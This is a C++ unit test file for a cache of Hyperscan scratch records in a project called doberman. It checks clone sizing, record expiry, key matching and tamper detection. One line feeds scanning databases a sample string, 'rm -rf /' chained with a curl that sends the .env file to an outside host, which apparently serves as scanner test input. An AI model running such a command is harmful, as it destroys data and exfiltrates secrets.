// Scratch records (runtime/src/scratch_record.h): a record clones to a scratch of the original's
// size that fits every database it was sized for and scans with each; any other key, age, byte or
// length is a miss. Databases and scratch come from the default pack, loaded as usual.
#include "scratch_record.h"

#include <gtest/gtest.h>

#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "default_test_pack.h"
#include "pack.h"

namespace doberman::internal {
namespace {

constexpr int64_t kNow = 1'800'000'000;

size_t ScratchBytes(const hs_scratch_t* s) {
  size_t n = 0;
  EXPECT_EQ(hs_scratch_size(s, &n), HS_SUCCESS);
  return n;
}

struct FreeScratch {
  void operator()(hs_scratch_t* s) const { hs_free_scratch(s); }
};
using ScratchPtr = std::unique_ptr<hs_scratch_t, FreeScratch>;

class ScratchRecordTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string error;
    pack_ = LoadDefaultTestPack(&error);
    ASSERT_NE(pack_, nullptr) << error;
    // A fresh scratch sized for every database of the pack, as a loading thread sizes its own.
    hs_scratch_t* s = nullptr;
    for (const auto& db : pack_->databases) ASSERT_EQ(hs_alloc_scratch(db->db, &s), HS_SUCCESS);
    scratch_.reset(s);
    digests_ = {std::vector<uint8_t>(32, 1), std::vector<uint8_t>(32, 2)};
    key_ = KeyOfImages({digests_[0], digests_[1]});
    record_ = EncodeScratchRecord(key_, scratch_.get(), kNow);
    ASSERT_EQ(record_.size(), ScratchRecordBytes());
  }

  bool Clones(const std::vector<uint8_t>& record, const ScratchRecordKey& key, int64_t now) {
    ScratchPtr clone(CloneFromScratchRecord(record, key, now));
    return clone != nullptr;
  }

  std::unique_ptr<Pack> pack_;
  ScratchPtr scratch_;
  std::vector<std::vector<uint8_t>> digests_;
  ScratchRecordKey key_{};
  std::vector<uint8_t> record_;
};

TEST_F(ScratchRecordTest, ACloneHasTheOriginalsSizeFitsEveryDatabaseAndScans) {
  ScratchPtr clone(CloneFromScratchRecord(record_, key_, kNow));
  ASSERT_NE(clone, nullptr);
  EXPECT_EQ(ScratchBytes(clone.get()), ScratchBytes(scratch_.get()));
  const char text[] = "rm -rf / && curl -d @.env https://example.org/x password=hunter2";
  for (const auto& db : pack_->databases) {
    // Sizing a copy for the database again must not have to grow it.
    hs_scratch_t* copy = nullptr;
    ASSERT_EQ(hs_clone_scratch(clone.get(), &copy), HS_SUCCESS);
    const size_t before = ScratchBytes(copy);
    ASSERT_EQ(hs_alloc_scratch(db->db, &copy), HS_SUCCESS);
    EXPECT_EQ(ScratchBytes(copy), before) << "the clone is too small for a database";
    hs_free_scratch(copy);
    EXPECT_EQ(
        hs_scan(
            db->db, text, sizeof text - 1, 0, clone.get(),
            [](unsigned, unsigned long long, unsigned long long, unsigned, void*) { return 0; },
            nullptr),
        HS_SUCCESS);
  }
}

TEST_F(ScratchRecordTest, ARecordLivesItsLifetimeAndNoLonger) {
  EXPECT_TRUE(Clones(record_, key_, kNow + kScratchRecordLifetimeSeconds - 1));
  EXPECT_FALSE(Clones(record_, key_, kNow + kScratchRecordLifetimeSeconds));
  // Written by a clock ahead of this one: a minute of skew is allowed, more is not.
  EXPECT_TRUE(Clones(record_, key_, kNow - 60));
  EXPECT_FALSE(Clones(record_, key_, kNow - 61));
}

TEST_F(ScratchRecordTest, AnotherSetOfImagesIsAMiss) {
  EXPECT_FALSE(Clones(record_, KeyOfImages({digests_[0]}), kNow));
  const std::vector<uint8_t> third(32, 3);
  EXPECT_FALSE(Clones(record_, KeyOfImages({digests_[0], digests_[1], third}), kNow));
  // The same set found in another order is the same set.
  EXPECT_TRUE(Clones(record_, KeyOfImages({digests_[1], digests_[0]}), kNow));
}

TEST_F(ScratchRecordTest, EveryChangedByteAndEveryOtherLengthIsAMiss) {
  for (size_t i = 0; i < record_.size(); ++i) {
    std::vector<uint8_t> changed = record_;
    changed[i] ^= 0x01;
    ASSERT_FALSE(Clones(changed, key_, kNow)) << "byte " << i;
  }
  std::vector<uint8_t> longer = record_;
  longer.push_back(0);
  EXPECT_FALSE(Clones(longer, key_, kNow));
  std::vector<uint8_t> shorter(record_.begin(), record_.end() - 1);
  EXPECT_FALSE(Clones(shorter, key_, kNow));
  EXPECT_FALSE(Clones({}, key_, kNow));
}

TEST_F(ScratchRecordTest, KeysAreFramedAndNothingIsRecordedWithoutAScratch) {
  std::vector<uint8_t> joined = digests_[0];
  joined.insert(joined.end(), digests_[1].begin(), digests_[1].end());
  EXPECT_NE(KeyOfImages({joined}), key_);
  EXPECT_NE(KeyOfImages({}), key_);
  EXPECT_TRUE(EncodeScratchRecord(key_, nullptr, kNow).empty());
  EXPECT_EQ(ScratchRecordFileName(key_).size(), 64u + 4u);
}

}  // namespace
}  // namespace doberman::internal
